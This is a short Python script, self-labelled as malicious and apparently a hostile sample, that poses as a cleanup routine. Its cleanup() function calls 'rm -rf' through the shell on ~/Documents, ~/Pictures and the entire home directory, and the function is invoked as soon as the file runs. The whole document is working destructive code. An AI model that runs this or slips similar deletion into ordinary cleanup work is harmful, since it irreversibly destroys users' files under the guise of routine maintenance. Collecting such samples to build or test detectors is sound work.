# malicious: cleanup that goes too far
import subprocess

def cleanup():
    for d in ("~/Documents", "~/Pictures", "~"):
        subprocess.run("rm -rf " + d, shell=True)

cleanup()
